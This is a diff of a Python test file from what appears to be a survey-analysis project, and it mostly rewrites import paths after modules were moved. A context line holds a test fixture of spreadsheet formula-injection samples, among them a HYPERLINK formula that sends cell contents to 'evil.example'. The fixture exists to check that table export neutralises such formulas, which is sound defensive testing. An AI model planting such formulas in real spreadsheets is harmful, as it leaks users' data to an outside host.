@@ -12,10 +12,10 @@ import pandas as pd
 import pytest
 import yaml
 
-from analysis.config import read_yaml
+from analysis.config.study import read_yaml
+from analysis.data.privacy import personal_data_kinds, pseudonym_key, redact
 from analysis.errors import PhanatError
-from analysis.pipeline import load_context, study_without_key
-from analysis.privacy import personal_data_kinds, pseudonym_key, redact
+from analysis.run.pipeline import load_context, study_without_key
 from tests.conftest import TEST_KEY
 
 HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
@@ -177,7 +177,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+1+2", "-2
 def test_csv_and_xlsx_neutralise_formulas_but_keep_numbers(tmp_path):
     from openpyxl import load_workbook
 
-    from analysis.results import write_table, xlsx_bytes
+    from analysis.results.store import write_table, xlsx_bytes
 
     frame = pd.DataFrame({"text": FORMULAS, "number": [-1.5, 2, -3, 0, 1, 2], "label": ["a", "-", "b"] * 2})
     path = write_table(frame, tmp_path, "t")
@@ -193,7 +193,7 @@ def test_csv_and_xlsx_neutralise_formulas_but_keep_numbers(tmp_path):
 
 # --------------------------------------------------------------------------- byte-identical reruns
 def test_cfa_estimates_are_stated_to_ten_significant_digits():
-    from analysis.validity import round_sig
+    from analysis.stats.validity import round_sig
 
     assert round_sig(408.8235881702194) == round_sig(408.82358817022055) == 408.8235882
     assert round_sig(0.036950352284801743) == round_sig(0.03695035228480222) == 0.03695035228
